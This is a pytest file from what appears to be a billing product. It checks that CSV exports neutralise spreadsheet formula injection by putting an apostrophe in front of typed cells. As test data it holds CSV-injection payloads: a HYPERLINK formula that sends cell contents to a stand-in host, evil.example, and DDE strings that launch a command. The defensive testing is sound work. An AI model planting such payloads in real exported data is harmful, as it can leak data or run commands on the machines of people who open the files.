"""Issue 12 #10: no CSV the product writes can run a formula (OWASP CSV injection).

Every cell a person typed (notes, reasons, staff names, who closed the month) that starts
with = + - @ tab or CR is written with a leading apostrophe; number cells read as before."""

import ast
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from billing.months import Month
from presentation.render import export_csv, report_csv, spreadsheet_safe
from service import Service
from service.closes import Amendment
from tests.service.helpers import ADMIN, log, seed

ROOT = Path(__file__).resolve().parent.parent
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "-١٢", "+１"]  # no number a spreadsheet reads as one: only 0-9 are (issue 27.6)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [720, -5, 0, "720", "-12", "+1.50", "52.00", "", "P-1042",
                                   "Nina Nurse", "'quoted", "2026-11-20T20:00:00+00:00"])
def test_numbers_and_plain_text_read_as_before(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS_STARTS), (column, cell)


def test_export_and_report_csv_neutralise_typed_text(svc: Service) -> None:
    seed(svc)
    svc.staff.add(slack_user_id="U07EVIL", name=HOSTILE[0], role="clinical_staff",
                  actor="test")
    october = datetime(2026, 10, 12, 15, 0, tzinfo=UTC)
    first = log(svc, "12m", note=HOSTILE[1], staff="U07EVIL", started_at=october)
    log(svc, "9m", note=HOSTILE[4], started_at=october.replace(hour=17))
    svc.entries.void(first, reason=HOSTILE[2], by=ADMIN)
    svc.closes.close(Month(2026, 10), by=HOSTILE[3])
    log(svc, "3m", note="late", started_at=october.replace(hour=19),
        amendment=Amendment(HOSTILE[5], ADMIN, operator=True))

    exported = _cells(export_csv(svc.entries.for_month(Month(2026, 10)), svc.ctx.policy.zone,
                                 region="US"))
    _assert_no_formula(exported)
    assert exported[0]["staff_name"] == "'" + HOSTILE[0]
    assert exported[0]["note"] == "'" + HOSTILE[1]
    assert exported[0]["void_reason"] == "'" + HOSTILE[2]
    assert exported[1]["note"] == "'" + HOSTILE[4].strip()  # the service strips the tab
    assert exported[2]["amendment_reason"] == "'" + HOSTILE[5].strip()
    assert [r["duration_seconds"] for r in exported] == ["720", "540", "180"]

    report = _cells(report_csv(svc.months.report_rows(Month(2026, 10))))
    _assert_no_formula(report)
    assert report[0]["month_closed_by"] == "'" + HOSTILE[3]
    assert report[0]["total_seconds"] == "720" and report[0]["expected_amount"] == "0.00"


def _imports_csv(path: Path) -> bool:
    """Whether the module can write CSV: it imports csv and names a writer (`csv.writer`,
    `DictWriter`); a reader alone (`import readings FILE.csv`) writes nothing a spreadsheet
    opens."""
    tree = ast.parse(path.read_text())
    imports = any(isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names)
                  or isinstance(node, ast.ImportFrom) and node.module == "csv"
                  for node in ast.walk(tree))
    names = {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)} | {
        node.id for node in ast.walk(tree) if isinstance(node, ast.Name)} | {
        a.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
        for a in node.names}
    return imports and bool(names & {"writer", "DictWriter"})


def test_every_csv_is_written_by_render_so_every_csv_is_neutralised() -> None:
    """The dashboard download, `/rpm report`, `report --format csv` and `export` all call
    presentation/render.py; a second CSV writer elsewhere would bypass spreadsheet_safe."""
    writers = sorted(str(p.relative_to(ROOT)) for package in
                     ("billing", "bot", "reminders", "rpm_logger", "service", "store",
                      "presentation", "configuration", "telephony", "web")
                     for p in (ROOT / package).rglob("*.py")
                     if _imports_csv(p))
    assert writers == ["presentation/render.py"]
